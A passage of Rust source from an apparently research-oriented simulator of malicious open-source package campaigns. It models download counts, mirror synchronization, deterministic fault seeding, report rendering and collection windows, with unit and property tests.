    let boosted = if rng.gen_bool(0.06) {
        lambda + rng.gen_range(8.0..40.0)
    } else {
        lambda
    };
    Poisson::new(boosted)
        .expect("lambda is positive and finite")
        .sample(rng) as u64
}

/// Popularity base (downloads of version 1) for a trojan campaign:
/// log-normal spanning ~10³ to ~10⁷, matching the Table VIII outliers.
pub fn trojan_base_downloads(rng: &mut impl Rng) -> u64 {
    // Mixture: most trojans target mid-popularity packages, but a few
    // hijack truly popular ones — those are the 10⁷-scale IDN rows of
    // Table VIII.
    if rng.gen_bool(0.15) {
        return rng.gen_range(8_000_000..60_000_000);
    }
    let ln = LogNormal::new(11.5, 2.0).expect("valid parameters");
    (ln.sample(rng) as u64).clamp(1_000, 120_000_000)
}

/// Downloads of trojan release-attempt `attempt` (0-based): the package
/// keeps gaining users while it masquerades as legitimate, so each
/// version multiplies the base.
pub fn trojan_downloads(base: u64, attempt: usize, rng: &mut impl Rng) -> u64 {
    let growth: f64 = rng.gen_range(1.3..2.4);
    // Clamp the exponent *before* the i32 cast: a huge `attempt` would
    // otherwise wrap negative (turning growth into decay) or push the
    // power to `inf` ahead of the band clamp below. 64 is already past
    // saturation — 1.3⁶⁴ alone exceeds the download cap for any base ≥ 9.
    const MAX_EXPONENT: usize = 64;
    let scaled = (base as f64) * growth.powi(attempt.min(MAX_EXPONENT) as i32);
    // Even the most popular hijacked packages sit in the 10⁷–10⁸ band
    // (the paper's top IDN is 66,092,932).
    scaled.min(1.6e8) as u64
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn ordinary_downloads_are_mostly_zero_or_one() {
        let mut rng = StdRng::seed_from_u64(1);
        let mut low = 0usize;
        const N: usize = 2000;
        for _ in 0..N {
            // Median persistence ~1 day.
            if ordinary_downloads(24.0, &mut rng) <= 1 {
                low += 1;
            }
        }
        let frac = low as f64 / N as f64;
        assert!(frac > 0.75, "Fig. 11: most attempts have 0–1 downloads, got {frac}");
    }

    #[test]
    fn some_ordinary_attempts_land_in_the_10_40_band() {
        let mut rng = StdRng::seed_from_u64(2);
        let count = (0..2000)
            .map(|_| ordinary_downloads(24.0, &mut rng))
            .filter(|&d| (10..=60).contains(&d))
            .count();
        assert!(count > 20, "expected a 10–40 minority band, got {count}");
    }

    #[test]
    fn zero_persistence_means_zero_ish_downloads() {
        let mut rng = StdRng::seed_from_u64(3);
        let total: u64 = (0..500).map(|_| ordinary_downloads(0.0, &mut rng)).sum();
        // Only the 6% boost branch can produce downloads.
        assert!(total < 500 * 40);
        let unboosted = (0..500)
            .map(|_| ordinary_downloads(0.0, &mut rng))
            .filter(|&d| d == 0)
            .count();
        assert!(unboosted > 400);
    }

    #[test]
    fn trojan_bases_span_orders_of_magnitude() {
        let mut rng = StdRng::seed_from_u64(4);
        let bases: Vec<u64> = (0..300).map(|_| trojan_base_downloads(&mut rng)).collect();
        assert!(bases.iter().any(|&b| b < 100_000));
        assert!(bases.iter().any(|&b| b > 5_000_000), "need Table-VIII-scale outliers");
    }

    #[test]
    fn trojan_downloads_grow_with_attempts() {
        let mut rng = StdRng::seed_from_u64(5);
        let base = 10_000;
        let v0 = trojan_downloads(base, 0, &mut rng);
        let v3 = trojan_downloads(base, 3, &mut rng);
        assert!(v3 > v0, "attempt 3 ({v3}) should exceed attempt 0 ({v0})");
        assert!(trojan_downloads(100_000_000, 9, &mut rng) <= 160_000_000);
    }

    mod properties {
        use super::*;
        use proptest::prelude::*;

        proptest! {
            #![proptest_config(ProptestConfig::with_cases(256))]

            /// Extreme attempt counts (up to `usize::MAX`) must neither
            /// overflow past the band clamp nor wrap the exponent
            /// negative and invert growth into decay.
            #[test]
            fn trojan_downloads_extreme_attempts_stay_in_band(
                seed in any::<u64>(),
                base in 0u64..200_000_000,
                attempt in any::<usize>(),
            ) {
                let mut rng = StdRng::seed_from_u64(seed);
                let d = trojan_downloads(base, attempt, &mut rng);
                prop_assert!(d <= 160_000_000, "band clamp violated: {d}");
                // Same seed ⇒ same growth draw ⇒ growth never inverts:
                // any later attempt is at least attempt 0's count.
                let mut rng0 = StdRng::seed_from_u64(seed);
                let d0 = trojan_downloads(base, 0, &mut rng0);
                prop_assert!(
                    d >= d0,
                    "attempt {attempt} ({d}) fell below attempt 0 ({d0})"
                );
            }
        }
    }
}
