//! Deterministic fault-plan seeding for the unreliable transport.
//!
//! A fault plan is a *pure function* `(plan seed, channel, document,
//! attempt) → u64`: every simulated fetch draws its fate from a counter
//! stream keyed by what is being fetched, never from shared RNG state.
//! That keying is what makes the resilient collector reproducible — the
//! same `(world seed, fault config)` injects the same faults whether the
//! per-source crawls run on one thread or sixteen, and regardless of the
//! order sources are processed in.
//!
//! The mixing function is SplitMix64, the same finalizer `StdRng`
//! seeding uses; it passes avalanche tests and is cheap enough that the
//! zero-fault fast path stays fast.

use crate::config::WorldConfig;
use oss_types::CrashPlan;

/// Seed material for one collection run's fault plan.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct FaultPlan {
    seed: u64,
}

/// Domain-separation constant so a fault plan never correlates with the
/// world generator's RNG stream for the same seed.
const FAULT_DOMAIN: u64 = 0x9e37_79b9_7f4a_7c15 ^ 0x4641_554c_5421; // "FAULT!"

impl FaultPlan {
    /// A plan from an explicit seed.
    pub fn new(seed: u64) -> FaultPlan {
        FaultPlan {
            seed: splitmix64(seed ^ FAULT_DOMAIN),
        }
    }

    /// The canonical plan of a world: derived from the world seed, so
    /// `collect_with` needs no extra configuration to be reproducible.
    pub fn for_world(config: &WorldConfig) -> FaultPlan {
        FaultPlan::new(config.seed)
    }

    /// The raw seed after domain separation (for diagnostics).
    pub fn seed(&self) -> u64 {
        self.seed
    }

    /// Deterministic 64-bit roll for attempt `attempt` of fetching
    /// `document` on `channel`.
    pub fn roll(&self, channel: u64, document: u64, attempt: u32) -> u64 {
        let mut x = self.seed;
        x = splitmix64(x ^ channel.wrapping_mul(0xff51_afd7_ed55_8ccd));
        x = splitmix64(x ^ document.wrapping_mul(0xc4ce_b9fe_1a85_ec53));
        splitmix64(x ^ u64::from(attempt))
    }

    /// [`FaultPlan::roll`] mapped into the unit interval `[0, 1)`.
    pub fn unit(&self, channel: u64, document: u64, attempt: u32) -> f64 {
        // 53 mantissa bits, the standard u64 → f64 uniform construction.
        (self.roll(channel, document, attempt) >> 11) as f64 / (1u64 << 53) as f64
    }

    /// Derives a deterministic [`CrashPlan`] over `points` from this
    /// fault plan: the crash-matrix analogue of [`FaultPlan::roll`].
    /// `case` separates independent crash draws of the same world (one
    /// per matrix cell), the same way `document` separates fetches.
    pub fn crash_plan(&self, case: u64, points: &[&str]) -> CrashPlan {
        CrashPlan::seeded(self.roll(channel_id("crash"), case, 0), points)
    }
}

/// Stable channel identifier from a label (FNV-1a). Channels separate
/// the fault streams of the ten source feeds, the mirror lookups and the
/// report-corpus crawl.
pub fn channel_id(label: &str) -> u64 {
    let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
    for byte in label.bytes() {
        hash ^= u64::from(byte);
        hash = hash.wrapping_mul(0x0000_0100_0000_01b3);
    }
    hash
}

/// SplitMix64 finalizer.
fn splitmix64(mut x: u64) -> u64 {
    x = x.wrapping_add(0x9e37_79b9_7f4a_7c15);
    let mut z = x;
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rolls_are_deterministic_and_keyed() {
        let plan = FaultPlan::new(7);
        assert_eq!(plan.roll(1, 2, 3), FaultPlan::new(7).roll(1, 2, 3));
        assert_ne!(plan.roll(1, 2, 3), plan.roll(1, 2, 4), "attempt matters");
        assert_ne!(plan.roll(1, 2, 3), plan.roll(1, 3, 3), "document matters");
        assert_ne!(plan.roll(1, 2, 3), plan.roll(2, 2, 3), "channel matters");
        assert_ne!(plan.roll(1, 2, 3), FaultPlan::new(8).roll(1, 2, 3), "seed matters");
    }

    #[test]
    fn unit_is_in_range_and_roughly_uniform() {
        let plan = FaultPlan::new(99);
        let mut sum = 0.0;
        const N: u64 = 4_000;
        for doc in 0..N {
            let u = plan.unit(0, doc, 0);
            assert!((0.0..1.0).contains(&u));
            sum += u;
        }
        let mean = sum / N as f64;
        assert!((mean - 0.5).abs() < 0.03, "mean {mean} far from 0.5");
    }

    #[test]
    fn world_plan_follows_the_world_seed() {
        let a = WorldConfig::small(1);
        let b = WorldConfig::small(2);
        assert_eq!(FaultPlan::for_world(&a), FaultPlan::for_world(&a.clone()));
        assert_ne!(FaultPlan::for_world(&a), FaultPlan::for_world(&b));
    }

    #[test]
    fn crash_plans_are_deterministic_per_case() {
        let plan = FaultPlan::new(11);
        let points = ["build/nodes", "ingest/apply", "checkpoint/write"];
        assert_eq!(
            plan.crash_plan(0, &points).armed(),
            FaultPlan::new(11).crash_plan(0, &points).armed()
        );
        // Different cases eventually arm different points.
        let drawn: std::collections::HashSet<String> = (0..64)
            .map(|case| plan.crash_plan(case, &points).armed().unwrap().0.to_string())
            .collect();
        assert_eq!(drawn.len(), points.len());
    }

    #[test]
    fn channel_ids_are_stable_and_distinct() {
        assert_eq!(channel_id("mirror"), channel_id("mirror"));
        let ids: std::collections::HashSet<u64> = ["mirror", "report-corpus", "feed/maloss"]
            .iter()
            .map(|l| channel_id(l))
            .collect();
        assert_eq!(ids.len(), 3);
    }
}
