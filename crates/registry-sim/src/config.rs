//! World-generation configuration.

use oss_types::SimTime;

/// Configuration for [`crate::world::World::generate`].
///
/// The defaults reproduce the paper's corpus at `scale = 1.0`
/// (~23.5k mentions / ~19.7k distinct packages). Tests and quick examples
/// run at small scales; every count in the calibration layer scales
/// proportionally (clamped to ≥1 so no source or campaign type vanishes).
#[derive(Debug, Clone)]
pub struct WorldConfig {
    /// RNG seed; identical seeds yield bit-identical worlds.
    pub seed: u64,
    /// Corpus scale factor in `(0, 1]` relative to the paper.
    pub scale: f64,
    /// The instant the collection pipeline runs ("we crawled in late
    /// 2023/early 2024").
    pub collect_time: SimTime,
    /// Mirror stale-copy retention in days: how long a mirror keeps a
    /// package after the root registry removed it (drives Fig. 5's
    /// "release time too early" cause).
    pub mirror_retention_days: u64,
    /// Mean detection latency of registry administrators, in hours
    /// (drives persistence, and with it Fig. 5's "persistence too short"
    /// cause and the low download counts of Fig. 11).
    pub admin_detection_mean_hours: f64,
}

impl WorldConfig {
    /// Full paper-scale configuration with the given seed.
    pub fn paper_scale(seed: u64) -> Self {
        WorldConfig {
            seed,
            scale: 1.0,
            ..WorldConfig::default()
        }
    }

    /// A small configuration for tests and examples (~5% of the corpus).
    pub fn small(seed: u64) -> Self {
        WorldConfig {
            seed,
            scale: 0.05,
            ..WorldConfig::default()
        }
    }

    /// Sets the scale factor.
    ///
    /// # Panics
    ///
    /// Panics unless `0.0 < scale <= 1.0`.
    pub fn with_scale(mut self, scale: f64) -> Self {
        assert!(scale > 0.0 && scale <= 1.0, "scale must be in (0, 1]");
        self.scale = scale;
        self
    }
}

impl Default for WorldConfig {
    fn default() -> Self {
        WorldConfig {
            seed: 0x4d41_4c47, // "MALG"
            scale: 0.05,
            collect_time: SimTime::from_ymd(2024, 1, 15),
            mirror_retention_days: 180,
            admin_detection_mean_hours: 5.0,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn defaults_are_sane() {
        let c = WorldConfig::default();
        assert!(c.scale > 0.0 && c.scale <= 1.0);
        assert!(c.collect_time > SimTime::from_ymd(2023, 12, 1));
    }

    #[test]
    fn paper_scale_is_full() {
        assert_eq!(WorldConfig::paper_scale(1).scale, 1.0);
        assert_eq!(WorldConfig::paper_scale(1).seed, 1);
    }

    #[test]
    #[should_panic(expected = "scale must be in")]
    fn overscale_rejected() {
        let _ = WorldConfig::default().with_scale(1.5);
    }
}
