//! Mirror registries and the root⇄mirror synchronization race.
//!
//! Mirrors copy the root registry on a fixed cadence. A malicious package
//! is recoverable from a mirror iff (paper Fig. 5):
//!
//! 1. some sync event fell inside its persistence window
//!    `[released, removed)` — otherwise the mirror never saw it; and
//! 2. the mirror has not yet reconciled the deletion — stale copies are
//!    kept for a retention period, after which the mirror catches up and
//!    the copy disappears ("release time too early").
//!
//! The paper searched 5 NPM + 12 PyPI + 6 RubyGems mirrors; the simulator
//! instantiates the same fleet with staggered phases and day-scale
//! intervals (2 days up to two weeks — full-catalog resyncs are slow).

use oss_types::{Ecosystem, SimDuration, SimTime};

/// One mirror registry.
#[derive(Debug, Clone)]
pub struct Mirror {
    /// Ecosystem mirrored.
    pub ecosystem: Ecosystem,
    /// Human-readable mirror name (e.g. `pypi-mirror-03`).
    pub name: String,
    /// Time between sync events.
    pub sync_interval: SimDuration,
    /// Phase offset of the first sync after the epoch.
    pub phase: SimDuration,
    /// How long a stale (deleted-upstream) copy survives before the
    /// mirror reconciles.
    pub retention: SimDuration,
}

impl Mirror {
    /// First sync instant at or after `t`.
    pub fn next_sync_at(&self, t: SimTime) -> SimTime {
        let interval = self.sync_interval.as_minutes().max(1);
        let phase = self.phase.as_minutes() % interval;
        let t_min = t.as_minutes();
        let k = t_min.saturating_sub(phase).div_ceil(interval);
        SimTime::from_minutes(phase + k * interval)
    }

    /// The sync event (if any) that captured a package with the given
    /// persistence window.
    pub fn capture_time(&self, released: SimTime, removed: Option<SimTime>) -> Option<SimTime> {
        let sync = self.next_sync_at(released);
        match removed {
            Some(removed) if sync >= removed => None,
            _ => Some(sync),
        }
    }

    /// Whether the mirror still serves the package at `query_time`.
    pub fn holds(
        &self,
        released: SimTime,
        removed: Option<SimTime>,
        query_time: SimTime,
    ) -> bool {
        match self.capture_time(released, removed) {
            None => false,
            Some(captured) => {
                if captured > query_time {
                    return false;
                }
                match removed {
                    // Never removed upstream: the mirror tracks it forever.
                    None => true,
                    // Removed upstream: the stale copy survives for the
                    // retention period after the *removal* (the mirror
                    // keeps re-syncing everything else, and reconciles
                    // deletions lazily).
                    Some(removed_at) => query_time < removed_at + self.retention,
                }
            }
        }
    }
}

/// The per-ecosystem mirror fleet.
#[derive(Debug, Clone)]
pub struct MirrorFleet {
    mirrors: Vec<Mirror>,
}

impl MirrorFleet {
    /// Builds the paper's fleet (5 NPM, 12 PyPI, 6 RubyGems) with
    /// deterministic staggered intervals and `retention_days` retention.
    pub fn paper_fleet(retention_days: u64) -> Self {
        let mut mirrors = Vec::new();
        for eco in Ecosystem::MAJOR {
            for i in 0..eco.mirror_count() {
                // Intervals from 2 up to ~14 days, staggered phases.
                // Full-catalog sync is expensive, so real mirrors resync
                // on day-scale cadences — which is what makes "persistence
                // too short" a leading cause of missing packages (Fig. 5):
                // a package the admins pull within hours usually vanishes
                // before any mirror's next sync.
                let hours = 48 + (i as u64 * 53) % 288;
                mirrors.push(Mirror {
                    ecosystem: eco,
                    name: format!("{}-mirror-{:02}", eco.slug(), i),
                    sync_interval: SimDuration::hours(hours),
                    phase: SimDuration::hours((i as u64 * 17) % hours.max(1)),
                    retention: SimDuration::days(retention_days),
                });
            }
        }
        MirrorFleet { mirrors }
    }

    /// All mirrors for an ecosystem.
    pub fn for_ecosystem(&self, eco: Ecosystem) -> impl Iterator<Item = &Mirror> {
        self.mirrors.iter().filter(move |m| m.ecosystem == eco)
    }

    /// Total number of mirrors.
    pub fn len(&self) -> usize {
        self.mirrors.len()
    }

    /// Whether the fleet is empty.
    pub fn is_empty(&self) -> bool {
        self.mirrors.is_empty()
    }

    /// The shortest sync interval among an ecosystem's mirrors, if any.
    pub fn fastest_interval(&self, eco: Ecosystem) -> Option<SimDuration> {
        self.for_ecosystem(eco).map(|m| m.sync_interval).min()
    }

    /// Whether *any* mirror of the package's ecosystem still serves it at
    /// `query_time` — the collection pipeline's recovery check.
    pub fn any_holds(
        &self,
        eco: Ecosystem,
        released: SimTime,
        removed: Option<SimTime>,
        query_time: SimTime,
    ) -> bool {
        self.for_ecosystem(eco)
            .any(|m| m.holds(released, removed, query_time))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn mirror(interval_h: u64, phase_h: u64, retention_d: u64) -> Mirror {
        Mirror {
            ecosystem: Ecosystem::PyPI,
            name: "test".into(),
            sync_interval: SimDuration::hours(interval_h),
            phase: SimDuration::hours(phase_h),
            retention: SimDuration::days(retention_d),
        }
    }

    #[test]
    fn next_sync_is_aligned_and_not_before_t() {
        let m = mirror(24, 6, 365);
        let t = SimTime::from_ymd(2023, 5, 10);
        let s = m.next_sync_at(t);
        assert!(s >= t);
        assert_eq!(
            (s.as_minutes() - m.phase.as_minutes()) % m.sync_interval.as_minutes(),
            0
        );
        // A query exactly on a sync instant returns that instant.
        assert_eq!(m.next_sync_at(s), s);
    }

    #[test]
    fn short_persistence_is_never_captured() {
        let m = mirror(24, 0, 365);
        let released = SimTime::from_ymd(2023, 5, 10) + SimDuration::hours(1);
        let removed = released + SimDuration::hours(2); // gone before next midnight
        assert_eq!(m.capture_time(released, Some(removed)), None);
        assert!(!m.holds(released, Some(removed), SimTime::from_ymd(2023, 6, 1)));
    }

    #[test]
    fn long_persistence_is_captured_and_held() {
        let m = mirror(24, 0, 365);
        let released = SimTime::from_ymd(2023, 5, 10);
        let removed = released + SimDuration::days(3);
        assert!(m.capture_time(released, Some(removed)).is_some());
        assert!(m.holds(released, Some(removed), SimTime::from_ymd(2023, 8, 1)));
    }

    #[test]
    fn stale_copy_expires_after_retention() {
        let m = mirror(24, 0, 30);
        let released = SimTime::from_ymd(2022, 1, 1);
        let removed = released + SimDuration::days(5);
        // Captured, but the query arrives long after retention: gone.
        assert!(m.holds(released, Some(removed), removed + SimDuration::days(10)));
        assert!(!m.holds(released, Some(removed), removed + SimDuration::days(60)));
    }

    #[test]
    fn never_removed_package_is_always_held_after_capture() {
        let m = mirror(24, 0, 30);
        let released = SimTime::from_ymd(2020, 1, 1) + SimDuration::hours(1);
        assert!(m.holds(released, None, SimTime::from_ymd(2024, 1, 1)));
        // …but not before the first sync (next midnight).
        assert!(!m.holds(released, None, released + SimDuration::hours(2)));
    }

    #[test]
    fn paper_fleet_has_5_12_6() {
        let fleet = MirrorFleet::paper_fleet(540);
        assert_eq!(fleet.for_ecosystem(Ecosystem::Npm).count(), 5);
        assert_eq!(fleet.for_ecosystem(Ecosystem::PyPI).count(), 12);
        assert_eq!(fleet.for_ecosystem(Ecosystem::RubyGems).count(), 6);
        assert_eq!(fleet.len(), 23);
        assert!(!fleet.is_empty());
        assert_eq!(fleet.for_ecosystem(Ecosystem::Maven).count(), 0);
    }

    #[test]
    fn fleet_recovery_requires_some_capture() {
        let fleet = MirrorFleet::paper_fleet(540);
        let released = SimTime::from_ymd(2023, 7, 1);
        let removed = released + SimDuration::days(10);
        let query = SimTime::from_ymd(2024, 1, 15);
        assert!(fleet.any_holds(Ecosystem::PyPI, released, Some(removed), query));
        // Minor ecosystems have no mirrors at all.
        assert!(!fleet.any_holds(Ecosystem::Docker, released, Some(removed), query));
    }

    #[test]
    fn fastest_interval_exists_for_major_ecosystems() {
        let fleet = MirrorFleet::paper_fleet(540);
        // Day-scale cadence: the fastest mirror resyncs every 2 days, the
        // slowest within two weeks.
        let fastest = fleet.fastest_interval(Ecosystem::PyPI).unwrap();
        assert!(fastest >= SimDuration::days(1) && fastest <= SimDuration::days(3));
        assert_eq!(fleet.fastest_interval(Ecosystem::Rust), None);
    }
}
