//! The simulated "wild": an OSS-ecosystem world generator.
//!
//! The paper measures a corpus scraped from proprietary online sources —
//! a hard data gate for any reproduction. This crate substitutes a
//! mechanistic simulator whose *published aggregates* match the paper's
//! (see `calibration`), so the downstream pipeline (collection → MALGRAPH
//! → analyses) runs on data with the same statistical structure:
//!
//! * [`campaign`] — adversaries run attack campaigns through the paper's
//!   life cycle {changing → release → detection → removal} (Fig. 6/10),
//!   in four strategies: similar re-release, dependency hiding, flood
//!   registration, and trojaned popular packages;
//! * [`fault`] — deterministic fault-plan seeding for the collection
//!   transport: every simulated fetch draws its fate from a counter
//!   stream keyed by `(seed, channel, document, attempt)`;
//! * [`mirror`] — mirror registries lag the root registry; the race
//!   between sync cadence and removal decides recoverability (Fig. 5);
//! * [`report`] — security websites publish HTML reports naming package
//!   groups (Table III), the evidence for co-existing edges;
//! * [`world`] — assembles packages, source mentions (Tables I/IV/VI),
//!   reports, and mirrors into one deterministic [`world::World`].
//!
//! Everything is seeded ([`config::WorldConfig::seed`]); no wall clock,
//! no network.
//!
//! # Examples
//!
//! ```
//! use registry_sim::{World, WorldConfig};
//!
//! let world = World::generate(WorldConfig::small(7));
//! assert!(!world.packages.is_empty());
//! assert!(!world.mentions.is_empty());
//! assert!(world.mentions.len() >= world.dataset_candidates().len() / 2);
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod calibration;
pub mod campaign;
pub mod config;
pub mod downloads;
pub mod fault;
pub mod mirror;
pub mod names;
pub mod package;
pub mod report;
pub mod window;
pub mod world;

pub use campaign::{Campaign, CampaignKind};
pub use config::WorldConfig;
pub use fault::FaultPlan;
pub use mirror::{Mirror, MirrorFleet};
pub use package::{CampaignIdx, PkgIdx, SimPackage, UnavailCause};
pub use report::{ReportCategory, SecurityReport, Website};
pub use window::WindowPlan;
pub use world::{Mention, World};
