//! Security-analysis reports and the websites that publish them.
//!
//! Reports are the only place the *context* of an attack campaign is
//! recorded (paper §IV-D): who released the packages, which packages
//! belong together, when. MALGRAPH's co-existing edge is built from them.
//! The simulator renders each report as an HTML page in the style of the
//! vendor blogs the paper crawled; the `crawler` crate parses those pages
//! back — the reproduction's BeautifulSoup path.

use crate::package::{CampaignIdx, PkgIdx};
use oss_types::{PackageId, SimTime};

/// Website category (paper Table III).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum ReportCategory {
    /// Technical-community sites (forums, project blogs).
    TechnicalCommunity,
    /// Commercial security organizations.
    Commercial,
    /// News outlets.
    News,
    /// Individual researchers.
    Individual,
    /// Official registry/vendor advisories.
    Official,
    /// Everything else.
    Other,
}

impl ReportCategory {
    /// All categories in Table III order.
    pub const ALL: [ReportCategory; 6] = [
        ReportCategory::TechnicalCommunity,
        ReportCategory::Commercial,
        ReportCategory::News,
        ReportCategory::Individual,
        ReportCategory::Official,
        ReportCategory::Other,
    ];

    /// Display name as printed in Table III.
    pub fn display_name(self) -> &'static str {
        match self {
            ReportCategory::TechnicalCommunity => "Technical Community",
            ReportCategory::Commercial => "Commercial org.",
            ReportCategory::News => "News",
            ReportCategory::Individual => "Individual",
            ReportCategory::Official => "Official",
            ReportCategory::Other => "Other",
        }
    }
}

impl std::fmt::Display for ReportCategory {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.display_name())
    }
}

/// A website that publishes security reports.
#[derive(Debug, Clone)]
pub struct Website {
    /// Site name, e.g. `commercial-org-03.example`.
    pub name: String,
    /// Table III category.
    pub category: ReportCategory,
}

/// One security-analysis report.
#[derive(Debug, Clone)]
pub struct SecurityReport {
    /// Report id, unique in the world.
    pub id: u32,
    /// Index into the world's website list.
    pub website: usize,
    /// Publication instant.
    pub published: SimTime,
    /// Title line.
    pub title: String,
    /// Packages named by the report.
    pub packages: Vec<PkgIdx>,
    /// Actor handle if the analysts disclosed one.
    pub actor_handle: Option<String>,
    /// Ground truth: campaign the report describes (never read by the
    /// collection pipeline).
    pub campaign: Option<CampaignIdx>,
}

/// Renders a report as an HTML page in vendor-blog style. `resolve` maps
/// a package index to its registry identity and artifact hash prefix.
pub fn render_html(
    report: &SecurityReport,
    website: &Website,
    mut resolve: impl FnMut(PkgIdx) -> (PackageId, String),
) -> String {
    let mut out = String::new();
    out.push_str("<html><head><title>");
    out.push_str(&escape(&report.title));
    out.push_str("</title></head><body>\n");
    out.push_str(&format!(
        "<h1>{}</h1>\n<p class=\"byline\">{} — {}</p>\n",
        escape(&report.title),
        escape(&website.name),
        report.published
    ));
    out.push_str("<p>Our team identified malicious packages in the wild. ");
    if let Some(actor) = &report.actor_handle {
        out.push_str(&format!(
            "The packages were published by the actor <b>{}</b>. ",
            escape(actor)
        ));
    }
    out.push_str("Indicators of compromise follow.</p>\n<ul>\n");
    for &pkg in &report.packages {
        let (id, hash) = resolve(pkg);
        out.push_str(&format!(
            "<li><code>{id}</code> <span class=\"ioc\">sha256:{hash}</span></li>\n"
        ));
    }
    out.push_str("</ul>\n<p>We notified the registry and the packages were removed.</p>\n");
    out.push_str("</body></html>\n");
    out
}

fn escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample_report() -> (SecurityReport, Website) {
        (
            SecurityReport {
                id: 1,
                website: 0,
                published: SimTime::from_ymd(2023, 1, 17),
                title: "Malicious 'Lolip0p' packages install info-stealing malware".into(),
                packages: vec![PkgIdx(0), PkgIdx(1)],
                actor_handle: Some("Lolip0p".into()),
                campaign: None,
            },
            Website {
                name: "news-site-00.example".into(),
                category: ReportCategory::News,
            },
        )
    }

    #[test]
    fn html_contains_all_package_mentions() {
        let (report, site) = sample_report();
        let html = render_html(&report, &site, |pkg| {
            let id: PackageId = if pkg == PkgIdx(0) {
                "pypi/colorslib@1.0.0".parse().unwrap()
            } else {
                "pypi/httpslib@1.0.0".parse().unwrap()
            };
            (id, "deadbeef".into())
        });
        assert!(html.contains("<code>pypi/colorslib@1.0.0</code>"));
        assert!(html.contains("<code>pypi/httpslib@1.0.0</code>"));
        assert!(html.contains("sha256:deadbeef"));
        assert!(html.contains("<b>Lolip0p</b>"));
        assert!(html.contains("2023-01-17"));
    }

    #[test]
    fn html_escapes_title() {
        let (mut report, site) = sample_report();
        report.title = "packages <script> & more".into();
        report.packages.clear();
        report.actor_handle = None;
        let html = render_html(&report, &site, |_| unreachable!());
        assert!(html.contains("packages &lt;script&gt; &amp; more"));
        assert!(!html.contains("<script>"));
    }

    #[test]
    fn categories_have_unique_display_names() {
        let mut names: Vec<_> = ReportCategory::ALL.iter().map(|c| c.display_name()).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), 6);
    }
}
