//! SimTime windowing for streaming collection (ISSUE 8).
//!
//! A [`WindowPlan`] slices the simulated timeline into consecutive
//! windows so the crawler can emit the corpus as a sequence of deltas
//! instead of one monolithic dataset. Two constructors cover the two
//! shapes continuous monitoring needs:
//!
//! * [`WindowPlan::equal_span`] — fixed wall-time cadence ("re-crawl
//!   weekly"). Source cadence quantises many disclosures onto the same
//!   late timestamps, so equal spans can be heavily skewed.
//! * [`WindowPlan::disclosure_quantiles`] — boundaries at quantiles of
//!   the per-package first-disclosure times, so each window carries
//!   roughly the same number of newly disclosed packages. This is what
//!   the ingest benchmark uses: its "final 10% window" genuinely holds
//!   ~10% of the corpus.
//!
//! The plan is only a set of boundaries; assignment of packages and
//! reports to windows is the crawler's job (`crawler::windows`).

use crate::world::World;
use oss_types::SimTime;
use std::collections::HashMap;

/// Consecutive, inclusive-upper-bound time windows covering the
/// collection timeline.
///
/// Window `i` covers `(bound(i-1), bound(i)]` (the first window starts
/// at the epoch); [`WindowPlan::window_of`] clamps anything after the
/// last bound into the final window, so every timestamp maps somewhere.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct WindowPlan {
    /// Strictly increasing inclusive upper bounds, one per window.
    bounds: Vec<SimTime>,
}

impl WindowPlan {
    /// `windows` equal spans from `start` (exclusive) to `end`
    /// (inclusive).
    ///
    /// # Panics
    ///
    /// Panics if `windows` is zero or `end <= start`.
    pub fn equal_span(start: SimTime, end: SimTime, windows: usize) -> WindowPlan {
        assert!(windows > 0, "a plan needs at least one window");
        let (lo, hi) = (start.as_minutes(), end.as_minutes());
        assert!(hi > lo, "window span must be non-empty");
        let mut bounds: Vec<SimTime> = (1..=windows as u64)
            .map(|i| SimTime::from_minutes(lo + (hi - lo) * i / windows as u64))
            .collect();
        bounds.dedup();
        WindowPlan { bounds }
    }

    /// Boundaries at quantiles of the per-package *first* disclosure
    /// times of `world`'s mentions, so each window receives roughly
    /// `1/windows` of the disclosed packages. The last bound is raised
    /// to `world.config.collect_time` so reports published up to the
    /// collection cutoff always land inside the plan.
    ///
    /// # Panics
    ///
    /// Panics if `windows` is zero or the world has no mentions.
    pub fn disclosure_quantiles(world: &World, windows: usize) -> WindowPlan {
        assert!(windows > 0, "a plan needs at least one window");
        let mut first_seen: HashMap<usize, SimTime> = HashMap::new();
        for mention in &world.mentions {
            first_seen
                .entry(mention.package.index())
                .and_modify(|t| *t = (*t).min(mention.disclosed))
                .or_insert(mention.disclosed);
        }
        assert!(!first_seen.is_empty(), "world has no mentions to window");
        let mut times: Vec<SimTime> = first_seen.into_values().collect();
        times.sort_unstable();
        let n = times.len();
        let mut bounds: Vec<SimTime> = (1..=windows)
            .map(|i| times[(n * i).div_ceil(windows) - 1])
            .collect();
        let last = bounds.last_mut().expect("windows > 0");
        *last = (*last).max(world.config.collect_time);
        bounds.dedup();
        WindowPlan { bounds }
    }

    /// Number of windows. Constructors deduplicate coincident
    /// boundaries, so this can be less than the requested count.
    pub fn window_count(&self) -> usize {
        self.bounds.len()
    }

    /// The window containing `t`: the first window whose bound is
    /// `>= t`, clamped into the last window for late timestamps.
    pub fn window_of(&self, t: SimTime) -> usize {
        self.bounds
            .iter()
            .position(|&b| t <= b)
            .unwrap_or(self.bounds.len() - 1)
    }

    /// The inclusive upper bound of window `i`.
    ///
    /// # Panics
    ///
    /// Panics if `i` is out of range.
    pub fn bound(&self, i: usize) -> SimTime {
        self.bounds[i]
    }

    /// The exclusive lower bound of window `i` (the epoch for the
    /// first window).
    ///
    /// # Panics
    ///
